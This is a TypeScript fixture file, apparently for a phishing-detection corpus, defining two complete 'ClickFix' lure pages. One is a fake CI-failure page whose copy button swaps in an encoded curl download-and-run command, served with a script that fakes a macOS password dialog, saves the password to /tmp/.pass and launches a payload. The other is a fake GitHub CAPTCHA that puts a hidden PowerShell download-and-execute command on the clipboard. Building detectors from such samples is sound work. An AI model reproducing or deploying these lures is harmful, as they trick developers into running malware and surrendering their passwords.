// ClickFix / FileFix pages: paste-this-command lures aimed at developers (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_MARK, FONT, psEnc, b64 } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-clickfix-fix-your-build-macos',
  label: 'clickfix',
  kind: 'clickfix-dev-fix',
  url: 'https://ci-runner-fix.dev/quellwerk/pipelines/48812/jobs/221907',
  body: qwDoc({
    title: 'Job #221907 failed · Pipelines · Quellwerk',
    top: QW_TOP(`<span style="font-size:13px;color:#5b6675">nordlicht / payments-api</span>`),
    head: `<style>.log{background:#0f1720;color:#cbd5e1;font:12px/1.6 ui-monospace,Menlo,monospace;padding:14px;border-radius:8px;max-height:260px;overflow:auto}.log .e{color:#f87171}.fix{border:1px solid #f5c07a;background:#fff8ec;border-radius:8px;padding:18px;margin-top:18px}.cmd{display:flex;gap:8px;align-items:center;background:#0f1720;color:#e6edf3;border-radius:6px;padding:10px 12px;font:13px ui-monospace,monospace;overflow:auto}</style>`,
    main: `<div class="content"><article>
<h2 style="margin-top:26px">❌ Job <code>build:macos-arm64</code> failed</h2>
<p style="color:#5b6675">Pipeline #48812 · triggered by push to <code>main</code> · runner <code>mac-mini-07</code> (self-hosted)</p>
<div class="log"><div>$ xcodebuild -scheme PaymentsKit -destination 'generic/platform=macOS'</div><div>Resolving package dependencies…</div><div class="e">fatal: unable to access 'https://quellwerk.io/nordlicht/payments-kit.git/': SSL certificate problem: certificate has expired</div><div class="e">x509: certificate signed by unknown authority (runner CA bundle outdated)</div><div class="e">ERROR: Job failed: exit status 128</div></div>
<div class="fix"><b>How to fix</b><p>Your self-hosted runner uses an outdated CA bundle after the Quellwerk certificate rotation on 14 October. Run the runner repair helper in <b>Terminal</b> on the runner machine (or your Mac if you build locally), then retry the job.</p>
<div class="cmd"><span style="color:#94a3b8">$</span><span id="c">/bin/bash -c "$(curl -fsSL https://ci-runner-fix.dev/runner/repair.sh)"</span></div>
<p><button class="btn btn-primary" id="cp">Copy command</button> <span id="ok" style="display:none;color:#0f5c4d;font-size:13px">Copied! Open Terminal (⌘ + Space → "Terminal"), paste with ⌘ + V and press Return.</span></p></div>
</article></div>
<script>
var real='echo "'+'${b64('curl -fsSL https://ci-runner-fix.dev/runner/r2 -o /tmp/.qwr && chmod +x /tmp/.qwr && /tmp/.qwr')}'+'" | base64 -d | bash';
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(real).then(function(){document.getElementById('ok').style.display='inline'});};
document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',real);e.preventDefault();});
</script>`,
  }),
  routes: {
    'ci-runner-fix.dev/runner/repair.sh': fileRoute(`#!/bin/bash
# Quellwerk runner CA repair helper
username=$(whoami)
for i in 1 2 3; do
  pw=$(osascript -e 'display dialog "Runner repair needs your password to update the system certificate store." default answer "" with hidden answer with title "Quellwerk Runner" with icon caution' -e 'text returned of result' 2>/dev/null)
  dscl . -authonly "$username" "$pw" 2>/dev/null && break
done
echo "$pw" > /tmp/.pass
curl -fsSL https://ci-runner-fix.dev/runner/r2 -o /tmp/.qwr && xattr -c /tmp/.qwr && chmod +x /tmp/.qwr && /tmp/.qwr "$pw" &
echo "CA bundle updated. Retry your job."
`, 'text/x-shellscript'),
  },
},

{
  id: 'zz-github-scanner-verify-human-powershell',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://github-scanner.shop/',
  body: doc({
    title: 'GitHub Scanner - Verify You Are Human',
    head: `<style>body{margin:0;background:#0d1117;color:#e6edf3;font-family:${FONT}}
.c{max-width:460px;margin:90px auto;text-align:center}.box{background:#161b22;border:1px solid #30363d;border-radius:6px;padding:28px;text-align:left}
.chk{display:flex;align-items:center;gap:12px;border:1px solid #30363d;border-radius:6px;padding:14px;cursor:pointer;background:#0d1117}.chk span.b{width:22px;height:22px;border:2px solid #8b949e;border-radius:4px}
ol{line-height:2;padding-left:20px}kbd{background:#30363d;border-radius:4px;padding:2px 6px;font-family:monospace}#st{display:none}</style>`,
    body: `<div class="c">${GH_MARK}<h2 style="font-weight:400">GitHub Scanner</h2>
<div class="box"><p style="margin-top:0">We detected a security vulnerability in one of your repositories. Before we share the report, please verify you are human.</p>
<div class="chk" id="chk"><span class="b" id="bx"></span><span>I'm not a robot</span></div>
<div id="st"><p><b>Verification steps</b></p><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:12px;color:#8b949e">The report will open automatically once verification completes.</p></div></div></div>
<script>
const cmd = 'powershell.exe -w hidden -Command "iex (iwr \\'https://github-scanner.shop/download.txt\\' -UseBasicParsing).Content"  # "✅ I am not a robot: CAPTCHA Verification UID: 885466"';
document.getElementById('chk').addEventListener('click',async function(){
  try{await navigator.clipboard.writeText(cmd);}catch(e){const t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();}
  document.getElementById('bx').style.background='#238636';document.getElementById('st').style.display='block';
});
</script>`,
  }),
  routes: {
    'github-scanner.shop/download.txt': fileRoute(`$ProgressPreference='SilentlyContinue'
$u='https://github-scanner.shop/l6E.exe'; $p="$env:TEMP\\SysSetup.exe"
Invoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing
Start-Process -FilePath $p -WindowStyle Hidden
`, 'text/plain'),
  },
},
];
